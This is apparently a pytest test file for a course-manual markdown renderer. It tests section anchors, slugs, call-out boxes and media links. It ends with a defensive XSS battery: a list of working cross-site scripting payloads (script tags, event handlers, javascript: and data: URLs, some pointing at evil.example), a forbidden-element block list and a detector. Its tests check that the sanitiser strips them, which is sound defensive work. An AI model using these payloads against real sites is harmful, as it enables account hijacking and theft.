"""Manual rendering: sections and anchors, call-outs, media links, and an XSS battery."""

from __future__ import annotations

import hashlib
import json
import re
from html.parser import HTMLParser

import pytest

from courses.rendering import (
    IMAGE_END,
    IMAGE_START,
    RenderedManual,
    render_manual,
    render_markdown,
    section_digest,
    slugify,
)

MANUAL = """\
Read this before you start.

# Clothing {#clothing}

Label **real** wearable items.
A photo of clothing *is* clothing.

## Mannequins

::: do
Label a mannequin's dress.
![A mannequin in a red dress](media/mannequin.png)
:::


## Armour
Do not label armour, even when worn: `armour`.

```
code stays code
```
"""


def media(path: str) -> str:
    return f"/courses/clothing/media/{path.removeprefix('media/')}"


class Elements(HTMLParser):
    """Every start tag of a fragment with its attributes."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


def elements(html: str) -> list[tuple[str, dict[str, str | None]]]:
    return Elements(html).tags


# --- sections and anchors ----------------------------------------------------------------------


def test_sections_have_ids_titles_levels_lines_and_source():
    manual = render_manual(MANUAL)
    assert [(s.id, s.title, s.level, s.line) for s in manual.sections] == [
        ("introduction", "Introduction", 1, 1),
        ("clothing", "Clothing", 1, 3),
        ("mannequins", "Mannequins", 2, 8),
        ("armour", "Armour", 2, 16),
    ]
    intro, clothing, mannequins, armour = manual.sections
    assert intro.markdown == "Read this before you start."
    assert clothing.markdown == (
        "# Clothing {#clothing}\n\nLabel **real** wearable items.\n"
        "A photo of clothing *is* clothing."
    )
    assert mannequins.markdown.endswith(":::")  # trailing blank lines stripped
    assert armour.markdown.endswith("```")


def test_section_text_is_plain_and_excludes_the_heading():
    intro, clothing, mannequins, armour = render_manual(MANUAL).sections
    assert intro.text == "Read this before you start."
    assert clothing.text == "Label real wearable items. A photo of clothing is clothing."
    assert mannequins.text == (
        f"Do: Label a mannequin's dress. {IMAGE_START}A mannequin in a red dress{IMAGE_END}")
    assert armour.text == "Do not label armour, even when worn: armour.\n\ncode stays code"


def test_section_html_includes_its_heading_and_the_document_is_their_concatenation():
    manual = render_manual(MANUAL)
    assert manual.sections[1].html.startswith('<h2 id="clothing">Clothing</h2>')
    assert manual.sections[3].html.startswith('<h3 id="armour">Armour</h3>')
    assert manual.html == "".join(section.html for section in manual.sections)
    headings = [a for tag, a in elements(manual.html) if re.fullmatch(r"h[1-6]", tag)]
    assert [a["id"] for a in headings] == ["clothing", "mannequins", "armour"]


def test_explicit_ids_slugs_and_duplicates():
    manual = render_manual(
        "# Shoes\n\n# Shoes\n\n## Flippers {#no-flippers}\n\n## Shoes {#shoes}\n\n"
        "## Tights {#Tights_Bad}\n\n## {#only-id}\n"
    )
    assert [(s.id, s.title) for s in manual.sections] == [
        ("shoes", "Shoes"),
        ("shoes-2", "Shoes"),
        ("no-flippers", "Flippers"),
        ("shoes-3", "Shoes"),  # an explicit id is deduplicated too
        ("tights-tights-bad", "Tights {#Tights_Bad}"),  # invalid explicit id: ignored
        ("only-id", ""),
    ]
    assert '<h3 id="no-flippers">Flippers</h3>' in manual.html


def test_a_heading_called_introduction_does_not_collide_with_the_introduction():
    manual = render_manual("Preamble.\n\n# Introduction\n")
    assert [s.id for s in manual.sections] == ["introduction", "introduction-2"]


def test_no_introduction_without_text_before_the_first_heading():
    assert [s.id for s in render_manual("\n\n  \n# First\n").sections] == ["first"]
    assert render_manual("").sections == []
    assert render_manual("") == RenderedManual("", [])


def test_a_document_without_headings_is_one_introduction():
    (intro,) = render_manual("\n\nJust text.\n\n").sections
    assert (intro.id, intro.line, intro.markdown, intro.html) == (
        "introduction",
        3,
        "Just text.",
        "<p>Just text.</p>\n",
    )


def test_heading_titles_are_plain_text_and_setext_headings_count():
    manual = render_manual("Shoes *yes*, `flippers` <kbd>no</kbd>\n===\n\nBody.\n")
    (section,) = manual.sections
    assert (section.id, section.title, section.level, section.line) == (
        "shoes-yes-flippers-no",
        "Shoes yes, flippers no",
        1,
        1,
    )


def test_headings_inside_call_outs_do_not_start_sections():
    manual = render_manual("# Rules\n\n::: note\n## Inside\ntext\n:::\n")
    assert [s.id for s in manual.sections] == ["rules"]
    assert "<h3>Inside</h3>" in manual.html


def test_crlf_sources_keep_their_line_numbers():
    manual = render_manual("# A\r\n\r\ntext\r\n\r\n# B\r\n")
    assert [(s.id, s.line, s.markdown) for s in manual.sections] == [
        ("a", 1, "# A\n\ntext"),
        ("b", 5, "# B"),
    ]


@pytest.mark.parametrize(
    ("title", "slug"),
    [
        ("Mannequins", "mannequins"),
        ("  Shoes: yes; flippers -- no!  ", "shoes-yes-flippers-no"),
        ("A mannequin's dress", "a-mannequins-dress"),
        ("Über Größe und Café crème", "uber-grosse-und-cafe-creme"),
        ("Ｆｕｌｌｗｉｄｔｈ", "fullwidth"),
        ("服装", "section"),
        ("", "section"),
        ("!!!", "section"),
        ("x" * 200, "x" * 80),
    ],
)
def test_slugify(title, slug):
    assert slugify(title) == slug


# --- allowed content ---------------------------------------------------------------------------


def test_tables_use_align_attributes_not_styles():
    html = render_markdown("| item | label |\n|:--|--:|\n| shoe | yes |\n")
    assert '<th align="left" scope="col">item</th>' in html
    assert '<td align="right">yes</td>' in html
    assert "style" not in html


def test_images_links_and_harmless_html_survive():
    html = render_markdown(
        '![Shoe](media/shoe.png "A shoe") [guide](https://example.com/g "Guide") '
        '<img src="media/a.png" alt="a" width="40" height="30" title="t"> '
        "<kbd>Ctrl</kbd> H<sub>2</sub>O x<sup>2</sup> ~~old~~ <ins>new</ins> <del>x</del><br>\n\n"
        "<details open>\n<summary>Why?</summary>\n\nBecause.\n\n</details>\n\n"
        '<figure><img src="m.png" alt="m"><figcaption>Cap</figcaption></figure>\n'
    )
    assert '<img src="media/shoe.png" alt="Shoe" title="A shoe">' in html
    assert '<a href="https://example.com/g" title="Guide" rel="noopener noreferrer">' in html
    assert '<img src="media/a.png" alt="a" width="40" height="30" title="t">' in html
    for fragment in ("<kbd>Ctrl</kbd>", "<sub>2</sub>", "<sup>2</sup>", "<s>old</s>", "<br>"):
        assert fragment in html
    assert "<ins>new</ins>" in html and "<del>x</del>" in html
    assert '<details open="">\n<summary>Why?</summary>\n<p>Because.</p>\n</details>' in html
    assert "<figcaption>Cap</figcaption>" in html


def test_code_is_shown_escaped_and_without_author_classes():
    html = render_markdown("```html\n<script>alert(1)</script>\n```\n\n`<b>`")
    assert html == (
        "<pre><code>&lt;script&gt;alert(1)&lt;/script&gt;\n</code></pre>\n"
        "<p><code>&lt;b&gt;</code></p>\n"
    )


# --- call-outs ---------------------------------------------------------------------------------


def test_do_and_dont_call_outs_render_distinctly():
    html = render_markdown(
        "::: do\nLabel a mannequin's dress.\n:::\n::: dont\nDo not label armour.\n:::\n"
        "::: note\nShoes yes.\n:::\n"
    )
    assert html == (
        '<div class="rule rule-do" role="note">\n<p class="rule-label">Do</p>\n'
        "<p>Label a mannequin's dress.</p>\n</div>\n"
        '<div class="rule rule-dont" role="note">\n<p class="rule-label">Don\'t</p>\n'
        "<p>Do not label armour.</p>\n</div>\n"
        '<div class="rule rule-note" role="note">\n<p class="rule-label">Note</p>\n'
        "<p>Shoes yes.</p>\n</div>\n"
    )


def test_call_out_names_are_case_insensitive_and_may_nest():
    html = render_markdown(":::: NOTE\n::: Do\n**x**\n:::\n::::\n")
    assert [(t, a.get("class")) for t, a in elements(html) if t == "div"] == [
        ("div", "rule rule-note"),
        ("div", "rule rule-do"),
    ]
    assert html.count("</div>") == 2


def test_unknown_call_outs_render_their_content_plainly():
    assert render_markdown("::: tip\nUse **both** hands.\n:::\n") == (
        "<p>Use <strong>both</strong> hands.</p>\n"
    )


def test_call_out_labels_are_part_of_the_section_text():
    (section,) = render_manual("# R\n\n::: dont\n- towels\n- armour\n:::\n").sections
    assert section.text == "Don't: towels\n\narmour"


# --- media links -------------------------------------------------------------------------------


def test_media_url_rewrites_relative_images_and_links_only():
    source = (
        "![m](media/mannequin.png) [pdf](media/guide.pdf) [abs](/help) [top](#clothing) "
        "[web](https://example.com/x.png) [mail](mailto:a@example.com) ![w](http://x.org/a.png) "
        '<img src="media/raw.png" alt="r">'
    )
    html = render_markdown(source, media_url=media)
    found = [a.get("src") or a.get("href") for t, a in elements(html) if t in {"a", "img"}]
    assert found == [
        "/courses/clothing/media/mannequin.png",
        "/courses/clothing/media/guide.pdf",
        "/help",
        "#clothing",
        "https://example.com/x.png",
        "mailto:a@example.com",
        "http://x.org/a.png",
        "/courses/clothing/media/raw.png",
    ]
    manual = render_manual(MANUAL, media_url=media)
    assert 'src="/courses/clothing/media/mannequin.png"' in manual.sections[2].html


def test_without_media_url_links_stay_as_written():
    assert 'src="media/mannequin.png"' in render_manual(MANUAL).html


# --- XSS battery -------------------------------------------------------------------------------

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x ONERROR=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;script&colon;alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](data:image/png;base64,iVBORw0KGgo=)",
    "![x](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)",
    "<javascript:alert(1)>",
    "[x][ref]\n\n[ref]: javascript:alert(1)",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<iframe src=javascript:alert(1)></iframe>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    '<div style="width: expression(alert(1))">x</div>',
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<form action="https://evil.example/"><input name=p><button>Go</button></form>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    "<style>@import 'https://evil.example/x.css';</style>",
    "<template><img src=x onerror=alert(1)></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<video><source onerror="alert(1)"></video>',
    "<body onload=alert(1)>",
    '<a href="https://example.com" onclick="alert(1)">ok</a>',
    '![a" onerror="alert(1)](x.png)',
    '![x](x.png "t\\" onerror=\\"alert(1)")',
    '[a](x "t\\" onmouseover=\\"alert(1)")',
    '## Title {#x" onmouseover="alert(1)}',
    "## Title {#x onmouseover=alert(1)}",
    '::: do" onclick="alert(1)\ntext\n:::',
    "::: <img src=x onerror=alert(1)>\ntext\n:::",
    "<!--><script>alert(1)</script>-->",
    '<a href="#" id="x" class="rule rule-do" target="_blank">x</a>',
    '<h3 id="clothing" class="rule">forged</h3>',
    '<div class="rule rule-do" role="note"><p class="rule-label">Do</p></div>',
    '<span class="evil" id="evil">x</span>',
]
FORBIDDEN_ELEMENTS = {
    "script", "style", "iframe", "object", "embed", "form", "input", "button", "base", "meta",
    "link", "svg", "math", "template", "noscript", "frame", "frameset", "video", "source", "body",
}  # fmt: skip
RENDERER_CLASSES = {"rule", "rule-do", "rule-dont", "rule-note", "rule-label"}


def executable_parts(html: str) -> list[str]:
    """Everything in rendered HTML that a browser could execute or an author must not set."""
    problems = []
    for tag, attrs in elements(html):
        if tag in FORBIDDEN_ELEMENTS:
            problems.append(f"<{tag}>")
        for name, value in attrs.items():
            if name.startswith("on") or name in {"style", "srcdoc", "target", "xlink:href"}:
                problems.append(f"{tag}[{name}]")
            url = re.sub(r"[\x00-\x20\x7f]", "", value or "").casefold()
            if name in {"href", "src", "action"} and url.startswith(("javascript", "vbscript")):
                problems.append(f"{tag}[{name}={value}]")
            if name in {"href", "src", "action"} and url.startswith("data"):
                problems.append(f"{tag}[{name}={value}]")
            if name == "id" and not re.fullmatch(r"h[1-6]", tag):
                problems.append(f"{tag}[id]")
    return problems


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_executable_survives_render_markdown(payload):
    html = render_markdown(f"Before\n\n{payload}\n\nAfter")
    assert executable_parts(html) == []
    assert not [a for _, a in elements(html) if set(str(a.get("class")).split()) & {"evil"}]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_executable_survives_render_manual(payload):
    manual = render_manual(f"# Clothing\n\nBefore\n\n{payload}\n\n## Shoes\n\nAfter\n")
    for html in [manual.html, *(section.html for section in manual.sections)]:
        assert executable_parts(html) == []
    ids = [a["id"] for t, a in elements(manual.html) if "id" in a]
    assert ids == [section.id for section in manual.sections]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_author_html_cannot_forge_renderer_classes_or_ids(payload):
    html = render_markdown(payload)
    assert [a for _, a in elements(html) if {"class", "id", "role", "aria-label"} & a.keys()] == []


def test_heading_ids_cannot_break_out_of_their_attribute():
    manual = render_manual('# Title {#x" onmouseover="alert(1)}\n')
    (section,) = manual.sections
    assert section.id == "title-x-onmouseover-alert-1"
    assert section.title == 'Title {#x" onmouseover="alert(1)}'
    assert elements(manual.html) == [("h2", {"id": section.id})]


def test_render_markdown_sets_no_heading_ids():
    assert render_markdown("# Changes\n\n## Shoes {#shoes}\n") == (
        "<h2>Changes</h2>\n<h3>Shoes {#shoes}</h3>\n"
    )


def test_no_markdown_makes_the_renderer_or_the_scanners_fail():
    """Seeded random documents built from the syntax that nests: nothing may raise."""
    import random

    from courses.bundles.references import media_references
    from courses.html_safety import find_unsafe_html

    pieces = ["> ", ">", ":::", "::: do", "::: dont x", "- ", "  ", "1. ", "# ", "| a |", "|---|",
              "`", "```", "<div>", "</div>", "![x](media/a.png)", "[y](javascript:z)", "\n", "\n",
              "text", "{#id}", "<!--", "-->", "*", "\t"]
    rng = random.Random(20261130)
    for _ in range(1500):
        source = "".join(rng.choice(pieces) for _ in range(rng.randint(1, 14)))
        render_manual(source)
        render_markdown(source)
        find_unsafe_html(source)
        media_references(source)


def test_an_image_in_the_text_is_marked_but_its_digest_reads_the_bare_words():
    """Outlines published before images were marked keep their digests: no section turns
    "changed" (and unread) because of how its image is written down."""
    (section,) = render_manual("# Shoes\n\nSee ![a red\nshoe](s.png) here.").sections
    assert section.text == f"See {IMAGE_START}a red shoe{IMAGE_END} here."
    assert section_digest(section) == hashlib.sha256(
        json.dumps(["Shoes", "See a red shoe here."]).encode()).hexdigest()
    (forged,) = render_manual(f"# Shoes\n\nSee {IMAGE_START}x{IMAGE_END}.").sections
    assert forged.text == "See x."  # the marks cannot be typed into a manual
